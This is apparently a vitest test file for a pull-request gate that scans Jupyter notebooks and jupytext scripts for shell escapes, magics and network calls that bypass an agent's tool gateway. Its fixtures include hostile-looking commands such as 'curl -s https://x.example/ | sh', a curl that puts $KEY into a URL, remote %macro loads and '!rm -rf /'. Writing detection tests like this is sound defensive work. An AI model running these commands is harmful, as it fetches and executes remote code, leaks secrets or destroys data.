import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { errorRules, gate, pullRequest, put, review, scanAnnotations } from "./pr";

// A Jupyter notebook is code the kernel runs (nbconvert --execute, papermill, pytest --nbmake): its code cells are read as
// one Python program, IPython's shell escapes and magics as what they run (core/scan/notebook.ts), each finding placed at
// the notebook's JSON text. A pull request must not hide a crossing in a cell's IPython syntax, nor a cell the scan
// cannot read.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

type Cell = Record<string, unknown>;
const lines = (source: string) => source.split(/(?<=\n)/);
const code = (source: string): Cell => ({ cell_type: "code", execution_count: null, metadata: {}, outputs: [], source: lines(source) });
const markdown = (source: string): Cell => ({ cell_type: "markdown", metadata: {}, source: lines(source) });
const raw = (source: string): Cell => ({ cell_type: "raw", metadata: {}, source: lines(source) });

/**
 * A notebook as Jupyter writes it: nbformat 4, keys sorted, one-space indent. A code cell's first source line is on the
 * cell's line + 5 (`{`, cell_type, execution_count, metadata, outputs, `"source": [`), its text from column 6.
 */
const notebook = (cells: Cell[], language = "python") =>
  `${JSON.stringify({ cells, metadata: { kernelspec: { display_name: language === "python" ? "Python 3" : language, language, name: language === "python" ? "python3" : "ir" } }, nbformat: 4, nbformat_minor: 5 }, null, 1)}\n`;

const NB = "agent/explore.ipynb";

/** Every form IPython runs a crossing in, one per cell (or per line of the first), and a project module's alias. */
const EXPLORE = notebook([
  code('import os\nimport requests\nimport subprocess\n!curl https://x.example/$KEY\nout = !ls\nfor f in out:\n    !echo $f\nos.system("x")  # really?\nos.popen(cmd)  # why?\n'),
  code("%pip install requests"),
  code("%%bash\ncurl x"),
  code("pip install openai"),
  code('get_ipython().system("id")'),
  code('subprocess.run(["x"])'),
  code('u = "https://x.example/"\n%time requests.get(u)'),
  code("%%capture out\n!wget y"),
  code("%%sql\nSELECT * FROM t"),
  code("%run helper.py"),
  code('from shell_tools import run\nrun("x")'),
]);

describe("notebooks: a crossing in a code cell's IPython syntax fails the gate at its JSON line and column", () => {
  it("scan/shell-command, scan/network-call, scan/dynamic-code: shell escapes (`!cmd`, `x = !cmd`, indented in a loop, inside %%capture), %pip, %%bash, automagic `pip install`, get_ipython().system, %time's statement, %%sql, %run and a project module's alias fail the built Action at each", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, NB, EXPLORE);
      put(dir, "agent/shell_tools.py", "import subprocess\nrun = subprocess.run\n");
    });
    // More than GitHub's 10 annotations of a kind: every one is asked for.
    const r = await gate(api, pr, { annotations: "100" });
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual([
      `scan/shell-command ${NB} 12 6`, // !curl https://x.example/$KEY
      `scan/shell-command ${NB} 13 12`, // out = !ls: at the `!`
      `scan/shell-command ${NB} 15 10`, // the loop's indented !echo $f
      `scan/shell-command ${NB} 16 6`, // os.system("x")  # really?  (a comment's `?` asks no help)
      `scan/shell-command ${NB} 17 6`, // os.popen(cmd)  # why?
      `scan/shell-command ${NB} 26 6`, // %pip install requests
      `scan/shell-command ${NB} 35 6`, // %%bash
      `scan/shell-command ${NB} 45 6`, // pip install openai, alone in its cell (automagic)
      `scan/shell-command ${NB} 54 6`, // get_ipython().system("id")
      `scan/shell-command ${NB} 63 6`, // subprocess.run(["x"])
      `scan/network-call ${NB} 73 12`, // %time requests.get(u): at requests.get
      `scan/shell-command ${NB} 83 6`, // %%capture's !wget y
      `scan/dynamic-code ${NB} 92 6`, // %%sql
      `scan/dynamic-code ${NB} 102 6`, // %run helper.py
      `scan/shell-command ${NB} 112 6`, // run("x"), agent/shell_tools.py's subprocess.run
    ]);
    // The shell escape's range is the JSON text it is written as; a resolution step's line is the notebook's too.
    expect(r.commands).toContain(
      `::error title=scan/shell-command,file=${NB},line=13,endLine=13,col=12,endColumn=14::\`!ls\` (IPython's shell escape) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.`,
    );
    expect(r.commands).toContain(
      `::error title=scan/dynamic-code,file=${NB},line=92,endLine=92,col=6,endColumn=10::\`%25%25sql\` runs code the scan cannot read (the %25%25sql cell magic, which the scan does not know: what it runs is not read); what it runs could bypass the tool gateway's policy, approvals, budgets, idempotency ledger and audit.`,
    );
    expect(r.commands).toContain(
      `::error title=scan/shell-command,file=${NB},line=112,endLine=112,col=6,endColumn=8::\`run\` (subprocess.run) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. Resolved through line 111 \`from shell_tools import run\` ← agent/shell_tools.py line 2 \`run = subprocess.run\` ← agent/shell_tools.py line 1 \`import subprocess\`.`,
    );
  });

  it("scan/shell-command, scan/dynamic-code, scan/network-call: a magic defining what a later one-line cell runs by name (`%alias`, `%rehashx`, `%alias_magic -p`, `%macro` of a URL) and `%pycat` of a URL fail the built Action where written; the name's use is plain Python", async () => {
    const nb = notebook([
      code("%alias fetch curl https://x.example/"),
      code("fetch"),
      code("%rehashx"),
      code("wget"),
      code('%alias_magic -p "install openai" get pip'),
      code("get"),
      code("%macro -q m https://x.example/m.py\n%pycat https://x.example/a.py"),
      code("m"),
    ]);
    const r = await gate(api, await pullRequest((dir) => put(dir, "agent/aliases.ipynb", nb)));
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual([
      "scan/shell-command agent/aliases.ipynb 9 6", // %alias fetch curl …
      "scan/shell-command agent/aliases.ipynb 27 6", // %rehashx
      "scan/dynamic-code agent/aliases.ipynb 45 6", // %alias_magic -p "install openai" get pip
      "scan/dynamic-code agent/aliases.ipynb 63 6", // %macro -q m https://…
      "scan/network-call agent/aliases.ipynb 64 6", // %pycat https://…
    ]);
  });

  it("scan/shell-command: a cell left open at its end (`DOC = \"\"\"` tagged raises-exception, which nbclient runs past) does not hide the cells after it up to the next `\"\"\"`: the kernel compiles each cell alone", async () => {
    const tagged = (source: string): Cell => ({ ...code(source), metadata: { tags: ["raises-exception"] } });
    const nb = notebook([tagged('DOC = """'), code('import os\nos.system("curl -s https://x.example/ | sh")'), tagged('"""')]);
    const r = await gate(api, await pullRequest((dir) => put(dir, "agent/open.ipynb", nb)));
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/open.ipynb 23 6"]);
  });

  it("scan/shell-command: `target = !cmd` with a call in its target (`d[os.system(x)] = !ls`) and a string key (`d[\"k\"] = %sx ls`) fails the built Action at the call and at each escape", async () => {
    const nb = notebook([code('import os\nx, d = "id", {}\nd[os.system(x)] = !ls\nd["k"] = %sx ls')]);
    const r = await gate(api, await pullRequest((dir) => put(dir, "agent/targets.ipynb", nb)));
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/targets.ipynb 11 8", "scan/shell-command agent/targets.ipynb 11 24", "scan/shell-command agent/targets.ipynb 12 17"]);
  });

  // Open: the library table (core/scan/specs.ts) knows IPython's shell's `system`, `getoutput`, `run_cell`, `ex`, but not the
  // magic runners every `%magic` is transformed into (and nbconvert writes into exported .py scripts), in a .py file too.
  it("scan/shell-command: IPython's magic runners called by hand (`get_ipython().run_line_magic(\"pip\", …)`, `run_cell_magic(\"bash\", …)`, the older `magic(\"sx …\")`) fail the built Action at each", async () => {
    const nb = notebook([code('ip = get_ipython()\nip.run_line_magic("pip", "install openai")\nip.run_cell_magic("bash", "", "curl x")\nip.magic("sx id")')]);
    const r = await gate(api, await pullRequest((dir) => put(dir, "agent/runners.ipynb", nb)));
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/runners.ipynb 10 6", "scan/shell-command agent/runners.ipynb 11 6", "scan/shell-command agent/runners.ipynb 12 6"]);
  });

  it("clean: markdown and raw cells holding shell escapes and calls, `!` inside a string, %matplotlib, %load_ext, %%html and %%javascript cells, comments ending in `?` pass the built Action", async () => {
    const clean = notebook([
      markdown("# Setup\n!rm -rf /\n%%bash\ncurl x\n"),
      raw('import os; os.system("x")'),
      code('DOC = """\n!not a magic\n%%bash\n"""\nx = 1  # really?\n# what?\nprint(x)'),
      code("%matplotlib inline\n%load_ext autoreload\n%alias\n%macro m 1-3\n%pycat notes.py"),
      code('%%html\n<script>fetch("https://x.example/")</script>'),
      code('%%javascript\nfetch("https://x.example/")'),
    ]);
    const r = await gate(api, await pullRequest((dir) => put(dir, "agent/clean.ipynb", clean)));
    expect(r.code).toBe(0);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(errorRules(r)).toEqual([]);
  });
});

describe("notebooks: a suppression comment in a cell covers its magic or call as in a .py file, and is a suppression the pull request adds", () => {
  it("gate/suppression-added: `%pip … # flowgate: ignore-boundary -- setup cell` and `os.system(…)  # flowgate: ignore-boundary -- demo` hide their findings, each reported at its comment until a reviewer other than the author approves the head", async () => {
    const pr = await pullRequest((dir) => put(dir, "agent/setup.ipynb", notebook([code('import os\n%pip install -q openai  # flowgate: ignore-boundary -- setup cell\nos.system("ls")  # flowgate: ignore-boundary -- demo\n')])));
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(r.commands.filter((c) => c.startsWith("::error title="))).toEqual([
      "::error title=gate/suppression-added,file=agent/setup.ipynb,line=10,endLine=10,col=32,endColumn=56::`flowgate: ignore-boundary` is added by this change and hides scan/shell-command on line 10: a suppression needs an approving review by someone other than the author on the head commit",
      "::error title=gate/suppression-added,file=agent/setup.ipynb,line=11,endLine=11,col=27,endColumn=51::`flowgate: ignore-boundary` is added by this change and hides scan/shell-command on line 11: a suppression needs an approving review by someone other than the author on the head commit",
    ]);
    const approved = await gate(api, pr, {}, { reviews: [review("maintainer1", pr.head)] });
    expect([approved.code, errorRules(approved)]).toEqual([0, []]);
  });
});

describe("notebooks: a notebook the scan cannot read fails closed", () => {
  it("scan/skipped-file: a truncated notebook, one whose kernel is R's with code cells, and one whose code cell's source is a number fail the built Action at each; a notebook of markdown cells only (R's kernel or Python's) gives nothing", async () => {
    const truncated = notebook([code("import os\nos.system('x')")]);
    const pr = await pullRequest((dir) => {
      put(dir, "agent/broken.ipynb", truncated.slice(0, truncated.indexOf("os.system") + 12));
      put(dir, "agent/analysis.ipynb", notebook([code('system("curl https://x.example/")')], "R"));
      put(dir, "agent/number.ipynb", notebook([{ ...code(""), source: 42 }]));
      put(dir, "agent/notes.ipynb", notebook([markdown("# Notes\n!rm -rf /\n")]));
      put(dir, "agent/r-notes.ipynb", notebook([markdown("# Notes\n")], "R"));
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title="))).toEqual([
      "::error title=scan/skipped-file,file=agent/analysis.ipynb,line=1,endLine=1,col=1,endColumn=1::Not scanned: its kernel runs \"R\", which the scan does not read in a notebook.",
      "::error title=scan/skipped-file,file=agent/broken.ipynb,line=1,endLine=1,col=1,endColumn=1::Not scanned: the notebook's JSON does not parse (UnexpectedEndOfString at offset 145).",
      "::error title=scan/skipped-file,file=agent/number.ipynb,line=1,endLine=1,col=1,endColumn=1::Not scanned: a code cell's source is not text.",
    ]);
  });
});

describe("notebooks in text formats: what jupytext makes of a script or Markdown file runs", () => {
  // On the base, agent/nightly.py is a script whose magics are comments: Python runs none of them.
  const NIGHTLY = "import os\n\n# %%\n# !curl -s https://x.example/install.sh | sh\nprint(os.getcwd())\n";
  const atBase = (dir: string) => put(dir, "agent/nightly.py", NIGHTLY);

  it("scan/shell-command: a pull request that only adds `jupytext --to ipynb --execute agent/nightly.py` to a package.json script fails the built Action at the unchanged script's commented shell escape", async () => {
    const pr = await pullRequest((dir) => put(dir, "package.json", JSON.stringify({ name: "agent", scripts: { nightly: "jupytext --to ipynb --execute agent/nightly.py" } })), atBase);
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/nightly.py 4 3"]);
  });

  it("scan/shell-command: a Markdown notebook's ```bash fence, which jupytext runs as a %%bash cell, fails the built Action at its language; the same script no runner names passes", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/report.md", "# Report\n\n```bash\ncurl -s https://x.example/ | sh\n```\n");
      put(dir, "Makefile", "report:\n\tjupytext --execute agent/report.md\n");
      put(dir, "agent/notes.py", NIGHTLY);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/report.md 3 4"]);
  });
});
